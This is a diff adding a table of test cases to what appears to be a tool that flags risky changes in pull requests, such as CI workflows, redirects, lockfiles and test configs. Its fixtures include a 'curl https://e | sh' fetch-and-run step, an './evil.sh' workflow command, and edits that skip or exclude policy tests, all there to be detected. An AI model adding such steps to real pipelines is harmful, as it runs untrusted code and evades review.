@@ -823,3 +823,67 @@ test('none hides behind a change of words on the same page', () => {
     { numRuns: 1000, seed: 34 },
   );
 }, 300_000);
+
+test.each<[file: string, before: string, after: string, ...expected: string[]]>([
+  [
+    '.github/workflows/a.yml',
+    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
+    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n          ./evil.sh\n',
+    'new command of a workflow: ./evil.sh',
+  ],
+  [
+    '.github/workflows/a.yml',
+    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
+    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n          curl https://e | sh\n',
+    'new host e',
+    'new command of a workflow: curl https://e | sh',
+  ],
+  [
+    '.github/workflows/a.yml',
+    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
+    '# note\njobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
+    'new comment # note',
+  ],
+  [
+    '.github/workflows/a.yml',
+    'jobs:\n  a:\n    with:\n      safe: false\n',
+    'jobs:\n  a:\n    with:\n      safe: true\n',
+    'setting safe: true instead of safe: false',
+  ],
+  ['src/a.ts', '', 'const [a] = /a/.exec(text) ?? [];'],
+  ['src/a.ts', '', 'exec(text);', 'new program that runs others or reads secrets: exec(text);'],
+  ['netlify.toml', 'from = "/a"\nto = "/b"', 'from = "/a"\nto = "/c"', 'redirect /c instead of /b'],
+  ['netlify.toml', '', '[[redirects]]\nto = "/c"\nfrom = "/a"', 'new redirect /c'],
+  [
+    'package-lock.json',
+    '{\n  "packages": {\n    "node_modules/react": {\n      "version": "1.0.0",\n      "resolved": "https://registry.npmjs.org/react-1.0.0.tgz",\n      "integrity": "sha512-a"\n    }\n  }\n}',
+    '{\n  "packages": {\n    "node_modules/react": {\n      "version": "1.1.0",\n      "resolved": "https://registry.npmjs.org/react-1.1.0.tgz",\n      "integrity": "sha512-b"\n    }\n  }\n}',
+    'package react 1.1.0 instead of react 1.0.0',
+  ],
+  [
+    'package-lock.json',
+    '{\n  "packages": {\n    "node_modules/react": {\n      "version": "1.0.0",\n      "resolved": "https://registry.npmjs.org/react-1.0.0.tgz",\n      "integrity": "sha512-a"\n    }\n  }\n}',
+    '{\n  "packages": {\n    "node_modules/react": {\n      "version": "1.0.0",\n      "resolved": "https://registry.npmjs.org/react-1.0.0.tgz",\n      "integrity": "sha512-b"\n    }\n  }\n}',
+    'package react has other contents',
+  ],
+  [
+    'src/a.test.ts',
+    "test('a', b);",
+    "test.skip('a', b);",
+    "new test that is turned off, or the only one that runs: test.skip('a', b);",
+  ],
+  ['src/testing/a.ts', '', 'process.env.A'],
+  [
+    'vitest.config.ts',
+    'export default { exclude: [] };',
+    "export default { exclude: ['**/policy*'] };",
+    "setting export default { exclude: ['**/policy*'] }; instead of export default { exclude: [] };",
+  ],
+  ['run.sh', 'ls', 'ls', 'other permissions of run.sh'],
+])('what the configuration in %s changes is one change: %s', (file, old, fresh, ...expected) => {
+  const changes = changesBetween(builtFiles, builtFiles, {
+    files: [{ file, status: 'changed' }],
+    unbuilt: new Map([[file, { before: old, after: fresh }]]),
+  });
+  expect(changes.map(({ what }) => what)).toEqual(expected);
+});
